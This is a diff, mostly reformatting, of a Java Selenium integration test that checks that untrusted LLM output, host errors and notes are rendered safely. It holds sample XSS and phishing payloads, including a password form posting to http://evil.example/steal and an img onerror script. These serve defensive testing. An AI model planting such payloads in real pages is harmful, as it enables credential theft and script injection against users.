@@ -7,7 +7,6 @@ import java.util.ArrayList;
 import java.util.List;
 import java.util.Map;
 import java.util.UUID;
-
 import org.jouleboard.Payloads;
 import org.jouleboard.TestUsers;
 import org.jouleboard.base.SafeMarkdown;
@@ -91,8 +90,10 @@ class UntrustedTextIT extends BrowserTest {
 
     @Autowired
     ExperimentService experiments;
+
     @Autowired
     ModelCatalog catalog;
+
     @Autowired
     HostService hosts;
 
@@ -116,9 +117,14 @@ class UntrustedTextIT extends BrowserTest {
         answer.content(Payloads.SPLIT_FORM.toArray(String[]::new));
         answer.content("\n\nSee [the docs](https://example.org/docs).");
         ollama.script(MODEL, answer.build());
-        ollama.script(MODEL, ChatScript.builder().content("Partial <b>answer</b>")
-                .errorLine("model runner crashed: <form action=\"http://evil.example/steal\"><input name=password></form>"
-                        + "<img src=x onerror=\"" + Payloads.PWNED + "\">").build());
+        ollama.script(
+                MODEL,
+                ChatScript.builder()
+                        .content("Partial <b>answer</b>")
+                        .errorLine(
+                                "model runner crashed: <form action=\"http://evil.example/steal\"><input name=password></form>"
+                                        + "<img src=x onerror=\"" + Payloads.PWNED + "\">")
+                        .build());
 
         TestUsers.asAdmin(() -> {
             // A host name cannot carry markup at all: it is refused before it is stored.
@@ -139,8 +145,17 @@ class UntrustedTextIT extends BrowserTest {
     }
 
     private HostDraft draft(String name) {
-        return new HostDraft(name, ollama.baseUrl().toString(), PowerSourceKind.NONE, null, null, null, null,
-                Duration.ofSeconds(1), null, Duration.ofSeconds(4),
+        return new HostDraft(
+                name,
+                ollama.baseUrl().toString(),
+                PowerSourceKind.NONE,
+                null,
+                null,
+                null,
+                null,
+                Duration.ofSeconds(1),
+                null,
+                Duration.ofSeconds(4),
                 "Notes: " + Payloads.ALL.get(1) + Payloads.ALL.get(6));
     }
 
@@ -157,8 +172,9 @@ class UntrustedTextIT extends BrowserTest {
         logIn("admin", ADMIN_PASSWORD);
         wait.until(d -> Boolean.TRUE.equals(js("return !!document.querySelector('.live-host')")));
 
-        SecurityContextHolder.getContext().setAuthentication(UsernamePasswordAuthenticationToken.authenticated(
-                "admin", null, List.of(new SimpleGrantedAuthority("ROLE_USER"))));
+        SecurityContextHolder.getContext()
+                .setAuthentication(UsernamePasswordAuthenticationToken.authenticated(
+                        "admin", null, List.of(new SimpleGrantedAuthority("ROLE_USER"))));
         String title = Payloads.ALL.get(5) + Payloads.ALL.get(0);
         String prompt = String.join("\n", Payloads.ALL.subList(0, 12));
         long experimentId = submit(title, prompt);
@@ -174,19 +190,32 @@ class UntrustedTextIT extends BrowserTest {
             return !panelSummary().isEmpty();
         });
         Browser.screenshot(driver, "untrusted-live-first.png");
-        assertThat(panelSummary()).as("runs %s", experiments.runsOf(experimentId).stream()
-                .map(r -> r.id() + " " + r.status() + " " + r.errorMessage()).toList()).startsWith("Run finished");
+        assertThat(panelSummary())
+                .as(
+                        "runs %s",
+                        experiments.runsOf(experimentId).stream()
+                                .map(r -> r.id() + " " + r.status() + " " + r.errorMessage())
+                                .toList())
+                .startsWith("Run finished");
         problems.addAll(audit());
         assertThat(problems).as("Live page, streaming and finished").isEmpty();
-        assertThat(auditsWhileStreaming[0]).as("audits while the answer streamed").isPositive();
+        assertThat(auditsWhileStreaming[0])
+                .as("audits while the answer streamed")
+                .isPositive();
         String answerShown = (String) js(inPanel("return row.querySelector('.markdown-text').textContent"));
-        assertThat(answerShown).as("the markup is shown as text, not lost").contains("<form action=")
-                .contains("<vaadin-login-form").contains("[image: tracker]").contains("Here: <form action=");
+        assertThat(answerShown)
+                .as("the markup is shown as text, not lost")
+                .contains("<form action=")
+                .contains("<vaadin-login-form")
+                .contains("[image: tracker]")
+                .contains("Here: <form action=");
         assertThat((String) js(inPanel("return row.querySelector('.thinking-text').textContent")))
                 .contains("<script>" + Payloads.PWNED + "</script>");
-        assertThat(js(inPanel("return row.querySelectorAll('.markdown-text a[href]').length"))).as("one safe link")
+        assertThat(js(inPanel("return row.querySelectorAll('.markdown-text a[href]').length")))
+                .as("one safe link")
                 .isEqualTo(1L);
-        assertThat(js(inPanel("return Array.from(row.querySelector('.markdown-text a[href]').relList).sort().join(' ')")))
+        assertThat(js(inPanel(
+                        "return Array.from(row.querySelector('.markdown-text a[href]').relList).sort().join(' ')")))
                 .isEqualTo("nofollow noopener noreferrer");
 
         // The next run fails with a host error full of markup.
@@ -201,11 +230,14 @@ class UntrustedTextIT extends BrowserTest {
         assertNothingRan();
         assertSecurityHeaders();
 
-        List<RunView> runs = List.of(experiments.runsOf(experimentId).getFirst(),
+        List<RunView> runs = List.of(
+                experiments.runsOf(experimentId).getFirst(),
                 experiments.runsOf(failingId).getFirst());
         for (RunView run : runs) {
             driver.get(url("/runs/" + run.id()));
-            wait.until(d -> d.findElement(org.openqa.selenium.By.tagName("body")).getText().contains("Prompt"));
+            wait.until(d -> d.findElement(org.openqa.selenium.By.tagName("body"))
+                    .getText()
+                    .contains("Prompt"));
             assertThat(audit()).as("run page %d", run.id()).isEmpty();
         }
         assertThat((String) js("return document.querySelector('.run-error').textContent"))
@@ -213,11 +245,12 @@ class UntrustedTextIT extends BrowserTest {
         driver.get(url("/runs/" + runs.getFirst().id()));
         wait.until(d -> Boolean.TRUE.equals(js("return !!document.querySelector('.run-answer')")));
         assertThat((String) js("return document.querySelector('.run-answer').textContent"))
-                .contains("<vaadin-login-form").contains("[image: tracker]");
+                .contains("<vaadin-login-form")
+                .contains("[image: tracker]");
         Browser.screenshot(driver, "untrusted-run.png");
 
-        for (String page : List.of("/experiments/view/" + experimentId, "/admin/models", "/admin/hosts",
-                "/admin/queue", "/experiments")) {
+        for (String page : List.of(
+                "/experiments/view/" + experimentId, "/admin/models", "/admin/hosts", "/admin/queue", "/experiments")) {
             driver.get(url(page));
             wait.until(d -> Boolean.TRUE.equals(js("return !!document.querySelector('vaadin-app-layout')"
                     + " && document.body.innerText.length > 50")));
@@ -228,20 +261,34 @@ class UntrustedTextIT extends BrowserTest {
     }
 
     private long submit(String title, String prompt) {
-        return experiments.submit(new ExperimentRequest(title, host, List.of(new PromptInput(prompt, null)),
-                List.of(MODEL), 1, Think.ON, null, null, 3, null)).id();
+        return experiments
+                .submit(new ExperimentRequest(
+                        title,
+                        host,
+                        List.of(new PromptInput(prompt, null)),
+                        List.of(MODEL),
+                        1,
+                        Think.ON,
+                        null,
+                        null,
+                        3,
+                        null))
+                .id();
     }
 
     @SuppressWarnings("unchecked")
     private List<String> audit() {
-        return (List<String>) js(AUDIT, List.copyOf(SafeMarkdown.ELEMENTS),
-                Map.copyOf(SafeMarkdown.ATTRIBUTES.entrySet().stream().collect(java.util.stream.Collectors.toMap(
-                        Map.Entry::getKey, e -> List.copyOf(e.getValue())))));
+        return (List<String>) js(
+                AUDIT,
+                List.copyOf(SafeMarkdown.ELEMENTS),
+                Map.copyOf(SafeMarkdown.ATTRIBUTES.entrySet().stream()
+                        .collect(
+                                java.util.stream.Collectors.toMap(Map.Entry::getKey, e -> List.copyOf(e.getValue())))));
     }
 
     private String inPanel(String body) {
-        return "const row = Array.from(document.querySelectorAll('.live-host'))"
-                + ".find(r => r.textContent.includes('" + host + "')); if (!row) return null; " + body;
+        return "const row = Array.from(document.querySelectorAll('.live-host'))" + ".find(r => r.textContent.includes('"
+                + host + "')); if (!row) return null; " + body;
     }
 
     private String panelSummary() {
@@ -251,23 +298,31 @@ class UntrustedTextIT extends BrowserTest {
     }
 
     private void assertNothingRan() {
-        assertThat(js("return typeof window.__pwned")).as("a payload's script ran").isEqualTo("undefined");
+        assertThat(js("return typeof window.__pwned"))
+                .as("a payload's script ran")
+                .isEqualTo("undefined");
     }
 
     @SuppressWarnings("unchecked")
     private void assertSecurityHeaders() {
-        List<String> headers = (List<String>) ((JavascriptExecutor) driver).executeAsyncScript(
-                "const done = arguments[arguments.length - 1]; fetch(location.href).then(r => done("
+        List<String> headers = (List<String>) ((JavascriptExecutor) driver)
+                .executeAsyncScript("const done = arguments[arguments.length - 1]; fetch(location.href).then(r => done("
                         + "['content-security-policy', 'x-content-type-options', 'referrer-policy']"
                         + ".map(h => r.headers.get(h))))");
-        assertThat(headers.get(0)).contains("default-src 'self'").contains("img-src 'self' data: blob:")
-                .contains("form-action 'self'").contains("frame-ancestors 'none'").contains("object-src 'none'");
+        assertThat(headers.get(0))
+                .contains("default-src 'self'")
+                .contains("img-src 'self' data: blob:")
+                .contains("form-action 'self'")
+                .contains("frame-ancestors 'none'")
+                .contains("object-src 'none'");
         assertThat(headers.get(1)).isEqualTo("nosniff");
         assertThat(headers.get(2)).isEqualTo("strict-origin-when-cross-origin");
     }
 
     private List<String> cspViolations() {
-        return driver.manage().logs().get(LogType.BROWSER).getAll().stream().map(LogEntry::getMessage)
-                .filter(m -> m.contains("Content Security Policy")).toList();
+        return driver.manage().logs().get(LogType.BROWSER).getAll().stream()
+                .map(LogEntry::getMessage)
+                .filter(m -> m.contains("Content Security Policy"))
+                .toList();
     }
 }
